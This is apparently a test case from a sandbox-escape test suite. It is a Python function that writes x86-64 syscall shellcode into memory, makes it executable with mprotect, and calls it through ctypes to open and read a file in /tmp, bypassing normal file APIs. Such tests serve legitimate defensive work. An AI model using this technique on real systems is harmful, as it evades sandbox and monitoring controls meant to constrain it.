# class: machine_code
# rule: native_code
# needs: x86_64
# success: machine code in memory made executable afterwards reads a file in /tmp
# proof: read
import ctypes
import mmap

from attack import FILE, attempt, libc

CODE = bytes.fromhex("4889f84889f74889d64889ca0f05c3")


@attempt
def steal():
    memory = mmap.mmap(-1, 4096)
    memory.write(CODE)
    where = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    if libc().mprotect(ctypes.c_void_p(where), 4096, 5) != 0:
        return ""
    raw = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_void_p] * 4)(where)
    name, text = ctypes.create_string_buffer(FILE.encode()), ctypes.create_string_buffer(200)
    raw(0, raw(2, ctypes.addressof(name), 0, 0), ctypes.addressof(text), 199)
    return text.value
